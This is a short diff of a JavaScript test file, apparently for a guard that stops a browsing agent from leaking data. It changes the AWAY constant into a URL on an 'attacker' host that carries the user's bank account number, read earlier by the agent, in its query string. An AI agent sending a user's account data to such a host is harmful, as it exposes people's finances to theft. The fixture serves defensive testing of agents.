@@ -15,7 +15,8 @@ import { extension } from './with-guard.mjs';
 const FLOOD = 'flood.example';
 const OTHER = 'other-flood.example';
 const PRESS = `<button onclick="this.textContent='Pressed'">Press me</button>`;
-const AWAY = urlOf('attacker', '/c');
+/** What was read at the bank, to where nobody was. */
+const AWAY = urlOf('attacker', `/c?d=${encodeURIComponent(PERSON.account)}`);
 
 /** An agent that has read its bank account, and two sites that answer with what `bodies` has for a path. */
 async function afterTheBank({ bodies, makeHands, args = [], ...options }, tell) {
